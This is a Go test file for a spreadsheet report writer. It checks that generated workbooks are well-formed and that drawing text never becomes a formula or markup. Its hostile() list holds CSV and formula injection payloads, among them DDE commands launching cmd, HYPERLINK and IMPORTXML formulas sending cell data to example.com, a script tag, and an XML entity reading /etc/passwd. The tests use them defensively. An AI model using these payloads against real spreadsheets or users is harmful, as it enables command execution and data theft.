package report

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"html"
	"io"
	"path"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"trueup/dxfio"
	"trueup/dxfio/piece"
	"trueup/rules"
)

// parts reads every part of a workbook.
func parts(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range z.File {
		if _, twice := out[f.Name]; twice {
			t.Errorf("part %s is there twice", f.Name)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if out[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
	}
	return out
}

// checkPackage holds a workbook against the rules of ECMA-376 part 2 that make
// a spreadsheet program offer a repair when broken: each part has a content
// type, each relationship ends at a part, each part is well-formed, each defined
// name and merged range is there once and refers to a sheet.
func checkPackage(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	all := parts(t, data)
	var types struct {
		Defaults  []struct{ Extension, ContentType string } `xml:"Default"`
		Overrides []struct {
			PartName    string `xml:"PartName,attr"`
			ContentType string `xml:"ContentType,attr"`
		} `xml:"Override"`
	}
	if err := xml.Unmarshal(all["[Content_Types].xml"], &types); err != nil {
		t.Fatal(err)
	}
	overridden := map[string]bool{}
	for _, o := range types.Overrides {
		if overridden[o.PartName] {
			t.Errorf("content type of %s is given twice", o.PartName)
		}
		overridden[o.PartName] = true
		if _, ok := all[strings.TrimPrefix(o.PartName, "/")]; !ok {
			t.Errorf("content type of %s, which is no part", o.PartName)
		}
	}
	for name, content := range all {
		ext := strings.TrimPrefix(path.Ext(name), ".")
		if ext == "xml" && name != "[Content_Types].xml" && !overridden["/"+name] {
			t.Errorf("part %s has no content type of its own", name)
		}
		if ext == "png" {
			continue
		}
		for d := xml.NewDecoder(bytes.NewReader(content)); ; {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Errorf("part %s: %v", name, err)
				break
			}
		}
		if ext == "rels" {
			checkRelationships(t, name, content, all)
		}
		checkColumns(t, name, content)
	}
	checkBook(t, all)
	return all
}

// Columns are given in ascending order and none twice (ECMA-376 part 1, 18.3.1.13
// gives each by a range; that the ranges ascend is common practice of readers).
func checkColumns(t *testing.T, name string, content []byte) {
	t.Helper()
	last := 0
	for _, m := range regexp.MustCompile(`<col min="(\d+)" max="(\d+)"`).FindAllSubmatch(content, -1) {
		from, _ := strconv.Atoi(string(m[1]))
		to, _ := strconv.Atoi(string(m[2]))
		if from <= last || to < from {
			t.Errorf("%s: columns %d to %d come after column %d", name, from, to, last)
		}
		last = to
	}
}

func checkRelationships(t *testing.T, name string, content []byte, all map[string][]byte) {
	t.Helper()
	var links struct {
		Raw []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
			Mode   string `xml:"TargetMode,attr"`
		} `xml:"Relationship"`
	}
	if err := xml.Unmarshal(content, &links); err != nil {
		t.Errorf("%s: %v", name, err)
	}
	seen := map[string]bool{}
	for _, l := range links.Raw {
		if seen[l.ID] {
			t.Errorf("%s: %s twice", name, l.ID)
		}
		seen[l.ID] = true
		if l.Mode == "External" {
			continue
		}
		target := strings.TrimPrefix(l.Target, "/")
		if target == l.Target {
			target = path.Join(path.Dir(path.Dir(name)), l.Target)
		}
		if _, ok := all[target]; !ok {
			t.Errorf("%s: %s leads to %s, which is no part", name, l.ID, target)
		}
	}
	// What a part refers to must be among its relationships.
	part := path.Join(path.Dir(path.Dir(name)), strings.TrimSuffix(path.Base(name), ".rels"))
	for _, m := range regexp.MustCompile(`r:(?:id|embed)="([^"]+)"`).FindAllSubmatch(all[part], -1) {
		if !seen[string(m[1])] {
			t.Errorf("%s refers to %s, which is no relationship", part, m[1])
		}
	}
}

func checkBook(t *testing.T, all map[string][]byte) {
	t.Helper()
	var book struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
		} `xml:"sheets>sheet"`
		Names []struct {
			Name  string `xml:"name,attr"`
			Local string `xml:"localSheetId,attr"`
			Ref   string `xml:",chardata"`
		} `xml:"definedNames>definedName"`
	}
	if err := xml.Unmarshal(all["xl/workbook.xml"], &book); err != nil {
		t.Fatal(err)
	}
	sheets := map[string]bool{}
	for _, s := range book.Sheets {
		sheets["'"+strings.ReplaceAll(s.Name, "'", "''")+"'"] = true
	}
	seen := map[string]bool{}
	for _, n := range book.Names {
		if seen[n.Name+n.Local] {
			t.Errorf("defined name %s of sheet %s is there twice", n.Name, n.Local)
		}
		seen[n.Name+n.Local] = true
		sheet, cells, _ := strings.Cut(n.Ref, "!")
		if !sheets[sheet] || !regexp.MustCompile(`^\$[A-Z]*\$?\d+:\$[A-Z]*\$?\d+$`).MatchString(cells) {
			t.Errorf("defined name %s refers to %s", n.Name, n.Ref)
		}
	}
	for name, content := range all {
		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
			continue
		}
		for _, m := range regexp.MustCompile(`location="([^"]+)"`).FindAllSubmatch(content, -1) {
			where := html.UnescapeString(string(m[1]))
			if sheet := where[:strings.LastIndex(where, "!")]; !sheets[sheet] {
				t.Errorf("%s links to %s", name, where)
			}
		}
		merged := map[string]bool{}
		for _, m := range regexp.MustCompile(`<mergeCell ref="([^"]+)"`).FindAllSubmatch(content, -1) {
			if merged[string(m[1])] {
				t.Errorf("%s merges %s twice", name, m[1])
			}
			merged[string(m[1])] = true
		}
	}
}

func TestPackageIsSound(t *testing.T) {
	in := kitchenBook()
	in.Earlier = in.Result
	in.Notes = []string{"F2 (narrow-section): Why is empty"}
	checkPackage(t, write(t, in))
	checkPackage(t, write(t, WorkbookInput{Result: FailedResult(Source{File: "x.dxf"}, "", 0, nil), Settings: Default()}))
	var out bytes.Buffer
	if err := Register(&out, registerRows(), Default()); err != nil {
		t.Fatal(err)
	}
	checkPackage(t, out.Bytes())
}

// hostile texts: the examples of OWASP's page on CSV injection, markup, header
// codes, escapes of the file format, and what is simply too long.
func hostile() []string {
	return []string{
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://example.com?x="&A1,"click")`, `=1+1`, `+1+1`, `-2+3`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1",
		`=DDE("cmd";"/C calc";"1")`, `=IMPORTXML(CONCAT("http://example.com/",A1),"//a")`, `"=1+1`, `';=1+1`, `＝1+1`,
		`<script>alert(1)</script>`, `</t></is></c><c><f>1+1</f></c>`, `]]><f>1</f>`, `&amp;=1`, `<!ENTITY x SYSTEM "file:///etc/passwd">`,
		`&A&P&"Arial"12`, `_x003D_1+1`, `_x000A_=1`, `'Summary'!A1`, "a\u202eb", strings.Repeat("long ", 9000),
	}
}

// Text from a drawing is text everywhere: no formula, no markup, in any sheet or
// picture description.
func TestTextFromADrawingIsText(t *testing.T) {
	for _, bad := range hostile() {
		in := kitchenInput()
		in.Template.Pieces = in.Template.Pieces[:1]
		in.Template.Pieces[0].ID, in.Template.Pieces[0].Material = bad, bad
		in.Template.Pieces[0].Cutouts[0].ID = bad
		in.Setups[bad] = in.Setups["A"]
		in.Template.Repairs[0].Layer, in.Template.Supports[0].Layer, in.Template.Openings[0].Layer = bad, bad, bad
		in.Template.Seams[0].ID, in.Template.Seams[0].Pieces[0], in.Template.Seams[0].Steps[0].Piece = bad, bad, bad
		in.Template.Unread = []dxfio.Unread{{Type: bad, Layer: bad, Why: bad, Count: 1}}
		in.Job, in.Source.File = bad, bad
		f := in.Findings.Flags
		for i := range f {
			f[i].Message, f[i].Remedy, f[i].Key, f[i].Unit = bad, bad, bad+string(rune('a'+i)), "mm"
			f[i].Piece = bad
		}
		in.Findings.Unchecked = []rules.Unchecked{{Rule: bad, Why: bad}}
		in.Decisions = map[string]Decision{bad + "a": {Choice: Accept, By: bad, Why: bad}}
		r := Build(in)
		book := WorkbookInput{Result: r, Template: in.Template, Settings: Default(), Earlier: r, Notes: []string{bad}, Limits: []Limit{{Key: bad, Value: bad, Default: bad, What: bad, Source: bad}}}
		data := write(t, book)
		for name, content := range checkPackage(t, data) {
			if strings.HasPrefix(name, "xl/worksheets/sheet") && (bytes.Contains(content, []byte("<f>")) || bytes.Contains(content, []byte("<f "))) {
				t.Errorf("%q: %s holds a formula", cutUnits(bad, 30), name)
			}
			if bytes.Contains(content, []byte("<script")) {
				t.Errorf("%q: %s holds markup", cutUnits(bad, 30), name)
			}
		}
		f2 := open(t, data)
		if got, _ := f2.GetCellValue("Pieces", "A4"); got != cellText(bad) {
			t.Errorf("%q is shown as %q", cutUnits(bad, 60), cutUnits(got, 60))
		}
		if style, err := f2.GetCellStyle("Pieces", "A4"); err == nil && looksLikeFormula(cellText(bad)) {
			if s, err := f2.GetStyle(style); err != nil || s.NumFmt != 49 && (s.CustomNumFmt == nil || *s.CustomNumFmt != "@") {
				t.Errorf("%q has not the number format of text", cutUnits(bad, 30))
			}
		}
		checkPictures(t, book)
	}
}

// checkPictures reads every SVG of a report as XML and refuses scripts.
func checkPictures(t *testing.T, in WorkbookInput) {
	t.Helper()
	pictures, err := picturesOf(in)
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, p := range pictures {
		if names[strings.ToLower(p.file)] || path.Base(p.file) != p.file || strings.ContainsAny(p.file, `<>:"/\|?*`) || len(p.file) > 200 {
			t.Errorf("file name %q", p.file)
		}
		names[strings.ToLower(p.file)] = true
		var out bytes.Buffer
		if err := p.write(&out); err != nil {
			t.Fatal(err)
		}
		for d := xml.NewDecoder(&out); ; {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Errorf("%s: %v", p.file, err)
				break
			}
			if s, ok := token.(xml.StartElement); ok && s.Name.Local == "script" {
				t.Errorf("%s holds a script", p.file)
			}
		}
	}
	if len(pictures) != 1+len(in.Result.Pieces) {
		t.Errorf("%d pictures for %d pieces", len(pictures), len(in.Result.Pieces))
	}
}

func TestPicturesOfAFailedFile(t *testing.T) {
	for _, in := range []WorkbookInput{
		{Result: FailedResult(Source{}, "", 0, nil), Settings: Default()},
		{Result: FailedResult(Source{}, "", 0, nil), Template: &piece.Template{}, Settings: Default()},
	} {
		if p, err := picturesOf(in); err != nil || len(p) != 0 {
			t.Errorf("%d pictures, %v", len(p), err)
		}
	}
}
